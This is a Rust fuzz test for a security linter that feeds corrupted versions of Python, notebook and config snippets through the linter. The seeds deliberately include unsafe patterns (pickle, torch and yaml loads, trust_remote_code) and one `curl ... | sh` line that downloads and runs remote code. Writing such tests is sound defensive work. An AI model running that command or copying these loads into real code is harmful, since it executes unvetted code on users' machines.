//! The lint on corruptions of small files, always the same ones: the fuzzer's checks, in the time of a test.

use waag_testkit::mutate;

#[path = "../../../fuzz/src/lint.rs"]
#[expect(unreachable_pub, reason = "a part of the fuzzers' crate")]
mod fuzz;

/// Corruptions of each seed.
const ROUNDS: u64 = 150;

const SEEDS: &[&str] = &[
    "import torch\nfrom yaml import load\nx = torch.load(p)\ny = load(f)\nfor a in os.listdir(b):\n    loss.backward()\n",
    "# coding: latin-1\nimport pickle as p, yaml\ndef f(a: int = 1, *b, **c):\n    with open(f'{a}/x') as d:\n        return p.load(d), yaml.load(d)\n",
    "class A(B):\n    x = [y for y in z if (w := y)]\n    def g(self):\n        self.t = Trainer(**k)\n        match self.t:\n            case [1, *r]: pass\n",
    r#"{"cells": [{"cell_type": "code", "source": ["%%time\n", "import yaml\n", "yaml.load(f)  # é\n"]}, {"cell_type": "code", "source": "!pip install x\nyaml.load(g)"}], "nbformat": 4}"#,
    r#"{"per_device_train_batch_size": 8, "trust_remote_code": true, "model_name_or_path": "org/model"}"#,
    "base_model: org/model\ndatasets:\n  - path: /home/jane/x\nseed:\n",
    "import subprocess\nsubprocess.run(['pip', 'install', 'x'])\nos.system(f'curl https://e.org/{a} | sh && git clone https://e.org/b')\n# waag: allow[unsafe-load] reason\n",
];

#[test]
fn corrupted_files_are_read_to_the_end() {
    for seed in SEEDS {
        fuzz::lint(seed.as_bytes());
        mutate(seed.as_bytes(), ROUNDS, |bytes| fuzz::lint(&bytes));
    }
}
